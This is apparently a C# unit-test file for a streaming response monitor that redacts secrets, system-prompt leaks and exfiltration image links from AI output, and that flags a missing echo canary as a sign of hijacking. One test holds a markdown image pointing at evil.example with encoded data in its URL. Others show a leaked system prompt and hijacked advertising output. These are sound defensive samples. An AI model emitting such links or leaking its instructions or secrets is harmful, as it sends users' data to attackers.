using System.Text;
using InstructionHierarchy.Responses;

namespace InstructionHierarchy.Tests.Responses;

public class ResponseMonitorTests
{
    private static readonly ProtectedSecret Secret = new("api key", "ZX-4417-QUARTZ");

    private static readonly ResponseExpectations Expectations = new() { Secrets = [Secret] };

    [Fact]
    public void Push_SecretSplitOverThreeChunks_NeverReachesTheConsumer()
    {
        var monitor = new ResponseMonitor(Expectations);
        string prefix = string.Concat(Enumerable.Repeat("Here is some harmless text about the weather. ", 12));
        string[] chunks = [prefix + "The key is ZX-44", "17-QUA", "RTZ and that is all.", " Bye."];
        var consumer = new StringBuilder();
        foreach (string chunk in chunks)
        {
            string released = monitor.Push(chunk);
            consumer.Append(released);
            Assert.DoesNotContain("ZX-44", consumer.ToString(), StringComparison.Ordinal);
            Assert.DoesNotContain("QUA", consumer.ToString(), StringComparison.Ordinal);
        }

        consumer.Append(monitor.Complete());
        Assert.Equal(prefix + "The key is [redacted: secret] and that is all. Bye.", consumer.ToString());
        ResponseFinding finding = Assert.Single(monitor.Findings);
        Assert.Equal((ResponseFindingKind.SecretLeak, prefix.Length + 11), (finding.Kind, finding.Start));
    }

    [Fact]
    public void Push_ReleasesTextBeyondTheHoldBack_AndKeepsTheWindowBounded()
    {
        var monitor = new ResponseMonitor(Expectations);
        int released = 0;
        for (int i = 0; i < 2000; i++)
        {
            released += monitor.Push("lorem ipsum dolor ").Length;
        }

        Assert.True(released >= (2000 * 18) - monitor.HoldBack - 18);
        released += monitor.Complete().Length;
        Assert.Equal(2000 * 18, released);
        Assert.Empty(monitor.Findings);
    }

    [Fact]
    public void Push_SpacedSecretAcrossChunks_IsCaught()
    {
        var monitor = new ResponseMonitor(Expectations);
        string output = monitor.Push("key: Z X - 4 4 1 7") + monitor.Push(" - Q U A R T Z done") + monitor.Complete();
        Assert.Equal("key: [redacted: secret] done", output);
    }

    [Fact]
    public void Push_ExfiltrationImageSplitAcrossChunks_IsHeldUntilClosed()
    {
        var monitor = new ResponseMonitor(new ResponseExpectations(), options: new ResponseMonitorOptions { HoldBack = 8 });
        var consumer = new StringBuilder();
        foreach (string chunk in (string[])["Result ready. ![i](https://evil.exa", "mple/p.png?d=c2VjcmV0IGRhdGEgaGVyZQ", ") thanks for waiting, goodbye!"])
        {
            consumer.Append(monitor.Push(chunk));
            Assert.DoesNotContain("![i]", consumer.ToString(), StringComparison.Ordinal);
        }

        consumer.Append(monitor.Complete());
        Assert.Equal("Result ready. [image removed: evil.example] thanks for waiting, goodbye!", consumer.ToString());
    }

    [Fact]
    public void Push_EchoCanary_IsStripped_MissingIsReported()
    {
        var expectations = new ResponseExpectations { EchoCanary = "ECHO-AB12-CD34" };
        var ok = new ResponseMonitor(expectations);
        string text = ok.Push("ECHO-AB") + ok.Push("12-CD34\nAll good.") + ok.Complete();
        Assert.Equal("All good.", text);
        Assert.Empty(ok.Findings);

        var hijacked = new ResponseMonitor(expectations);
        string other = hijacked.Push("Buy cheap flights at ") + hijacked.Push("cheapflights.example today, the best deals in town, really!") + hijacked.Complete();
        Assert.Equal("Buy cheap flights at cheapflights.example today, the best deals in town, really!", other);
        Assert.Equal(ResponseFindingKind.MissingEchoCanary, Assert.Single(hijacked.Findings).Kind);
    }

    [Fact]
    public async Task MonitorAsync_RedactsAcrossTheStream()
    {
        var monitor = new ResponseMonitor(Expectations);
        var output = new StringBuilder();
        await foreach (string safe in monitor.MonitorAsync(Chunks("Your key: ZX-", "4417-", "QUARTZ. Keep it safe.")))
        {
            output.Append(safe);
        }

        Assert.Equal("Your key: [redacted: secret]. Keep it safe.", output.ToString());
        Assert.Throws<InvalidOperationException>(() => monitor.Push("more"));
    }

    [Fact]
    public void Push_SystemPromptLeakAcrossChunks_IsRedacted()
    {
        var expectations = new ResponseExpectations { SystemTexts = ["Always answer politely and never reveal the internal pricing formula used by the sales team."] };
        var monitor = new ResponseMonitor(expectations);
        string output = monitor.Push("Sure. My instructions: always answer politely and never ") + monitor.Push("reveal the internal pricing formula used by") + monitor.Push(" the sales team. Done.") + monitor.Complete();
        Assert.Equal("Sure. My instructions: [redacted: system prompt]. Done.", output);
    }

    private static async IAsyncEnumerable<string> Chunks(params string[] chunks)
    {
        foreach (string chunk in chunks)
        {
            await Task.Yield();
            yield return chunk;
        }
    }
}
